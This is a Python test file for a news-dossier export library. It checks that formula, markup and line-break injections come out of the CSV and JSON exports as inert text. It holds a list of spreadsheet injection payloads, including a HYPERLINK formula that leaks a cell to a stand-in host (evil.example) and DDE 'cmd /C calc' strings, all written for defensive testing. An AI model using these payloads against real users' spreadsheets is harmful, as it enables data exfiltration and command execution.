"""Hostile article content survives every export as inert data.

Markup, script addresses, template syntax and spreadsheet formulas put in every field
an article gives (title, outlet, URL, text, quotes, speakers) come out of the CSV
tables, the JSON-LD and the JSON Lines as the same characters, never as something a
spreadsheet runs, an HTML page executes or a line reader splits.
"""

from __future__ import annotations

import dataclasses
import json

import pytest
from dossier_factory import HOSTILE
from export_helpers import read_csv

from recoupe.export import claims, csv_tables, events
from recoupe.model import Fact, Quote, TextSpan

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def _formula_dossier(dossier):
    """The bus-strike dossier with a formula in every field an article gives."""
    articles = [
        dataclasses.replace(
            a, outlet=FORMULAS[n % 5], title=FORMULAS[(n + 1) % 5], url=FORMULAS[(n + 2) % 5]
        )
        for n, a in enumerate(dossier.articles)
    ]
    text = f"{FORMULAS[2]} a dit le maire.\n"
    said = TextSpan(start=0, end=len(FORMULAS[2]), text=FORMULAS[2])
    article = dataclasses.replace(articles[0], text=text, body=(said,))
    quote = dataclasses.replace(
        dossier.quotes[0],
        article_id=article.id,
        quote=Quote(
            span=said,
            content=said,
            kind="direct",
            speaker=dataclasses.replace(dossier.quotes[0].quote.speaker, name=FORMULAS[3]),
        ),
        speaker_id=None,
    )
    facts: list[Fact] = [
        dataclasses.replace(f, statement=FORMULAS[n % 5]) for n, f in enumerate(dossier.facts)
    ]
    return dataclasses.replace(
        dossier, articles=(article, *articles[1:]), facts=tuple(facts), quotes=(quote,)
    )


def _cells(tables: dict[str, str]):
    for name, text in tables.items():
        for row in read_csv(text):
            for cell in row:
                yield name, cell


def test_no_csv_cell_starts_a_formula(dossier):
    tables = csv_tables(_formula_dossier(dossier))
    for name, cell in _cells(tables):
        assert not cell or cell[0] == "'" or cell.lstrip(" ")[0] not in "=+-@\t\r", (name, cell)
    # the formulas are kept, as text
    assert {"'" + f for f in FORMULAS} <= {cell for _, cell in _cells(tables)}


def test_a_formula_is_no_address(dossier):
    quotes = read_csv(csv_tables(_formula_dossier(dossier))["quotes"])
    header, row = quotes
    assert row[header.index("URL")] == ""


@pytest.mark.parametrize("export", [claims, events])
def test_json_exports_escape_markup_and_keep_it_as_data(hostile, export):
    text = export(hostile)
    assert not {"<", ">", "&", "\u2028", "\u2029"} & set(text)
    documents = [json.loads(text)] if export is claims else list(map(json.loads, text.splitlines()))
    assert HOSTILE in set(_strings(documents))


def _strings(value):
    """Every string inside a parsed JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_claims_take_no_script_address_into_a_url(hostile):
    graph = json.loads(claims(hostile))["@graph"]
    urls = [a.get("url") for c in graph for a in c["appearance"]]
    assert not any(u and not u.startswith(("http://", "https://")) for u in urls)
    statement = graph[0]["text"]
    assert statement == HOSTILE


def test_events_stay_one_record_a_line_whatever_the_text(hostile):
    breaking = HOSTILE + "\u2028\u2029\x85\r\n\x0b\x0c\x1c"
    fact = dataclasses.replace(hostile.facts[0], statement=breaking, category="AGREE")
    ev = fact.evidence[0]
    article = next(a for a in hostile.articles if a.id == ev.article_id)
    text = article.text[: ev.span.start] + breaking + article.text[ev.span.start :]
    moved = dataclasses.replace(
        ev, span=TextSpan(start=ev.span.start, end=ev.span.start + len(breaking), text=breaking)
    )
    fact = dataclasses.replace(fact, evidence=(moved,))
    changed = dataclasses.replace(
        hostile,
        articles=tuple(
            dataclasses.replace(a, text=text) if a.id == article.id else a for a in hostile.articles
        ),
        facts=(fact,),
        commitments=(),
    )
    lines = events(changed).splitlines()
    assert len(lines) == 1
    assert json.loads(lines[0])["text"] == breaking


def test_hostile_csv_parses_to_the_same_characters(hostile):
    cells = {cell for _, cell in _cells(csv_tables(hostile))}
    assert HOSTILE in cells
    assert f"{HOSTILE}: {HOSTILE}" in {c.split("\n")[0] for c in cells}
